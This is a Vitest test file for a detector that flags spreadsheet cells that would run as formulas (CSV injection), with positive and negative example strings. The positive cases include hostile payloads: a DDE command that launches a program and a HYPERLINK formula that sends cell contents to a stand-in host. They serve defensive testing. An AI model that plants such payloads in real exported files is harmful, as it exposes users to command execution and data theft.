import { expect, test } from 'vitest'
import { tableFromRows } from '../table/table.ts'
import { formulaCells, runsAsFormula } from './formula-like.ts'

test.each([
  '=1+1',
  '=HYPERLINK("http://exemple.example/?d="&A1,"Cliquez")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  '+1-1',
  '-2+3',
  '- 9-12',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  ' =1+1',
  '\u200B=1+1',
  ';=1+1',
  'Boulangerie; =A1',
  '+A1',
  '-$B$2*3',
  '+33-1-30-90-10-90',
])('%j would be run', text => expect(runsAsFormula(text)).toBe(true))

test.each([
  '',
  '+33 1 30 90 10 90',
  '+33130901090',
  '-12,5',
  '-1.8135',
  '@mairie_epone',
  '＠mairie',
  '-',
  '+',
  '=',
  '--',
  '--> voir mairie',
  '- fermé le lundi',
  '"=1+1"',
  "'=1+1",
  '%0A=1+1',
  'Mo-Fr 08:00-12:00; Sa off',
  'rez-de-chaussée',
  'a=b',
  '2021-02-03',
])('%j is only written so', text => expect(runsAsFormula(text)).toBe(false))

test('all are counted, a hundred are shown', () => {
  const table = tableFromRows(
    ['nom', 'note'],
    Array.from({ length: 130 }, (_, row) => [`n${row}`, '=1+1']),
  )
  const { cells, count } = formulaCells(table)
  expect(count).toBe(130)
  expect(cells).toHaveLength(100)
  expect(cells[1]).toEqual({ row: 1, column: 'note', value: '=1+1' })
})
